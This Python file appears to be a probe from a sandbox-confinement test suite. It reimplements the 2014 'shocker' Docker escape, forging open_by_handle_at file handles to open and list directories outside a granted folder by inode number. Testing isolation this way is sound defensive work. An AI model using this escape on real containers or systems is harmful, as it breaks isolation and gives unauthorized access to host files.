# Opens files by their number, whatever folder they are in ("shocker", Docker 2014).
# range: plain=root
import ctypes
import os
import struct

from common import PROJECT, call, finish, hit

handle = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(120))
folder = os.open(PROJECT, os.O_RDONLY)
if call("name_to_handle_at", -100, PROJECT.encode(), handle, ctypes.byref(ctypes.c_int()), 0)[0] == 0:
    if call("open_by_handle_at", folder, handle, os.O_RDONLY)[0] >= 0:
        hit("opened a granted folder by its handle")
for number in (2, 128, 256):
    handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, number, 0) + bytes(64))
    descriptor, _ = call("open_by_handle_at", folder, handle, os.O_RDONLY)
    if descriptor >= 0:
        hit(f"opened number {number}: {os.listdir(descriptor)[:3]}")
finish()
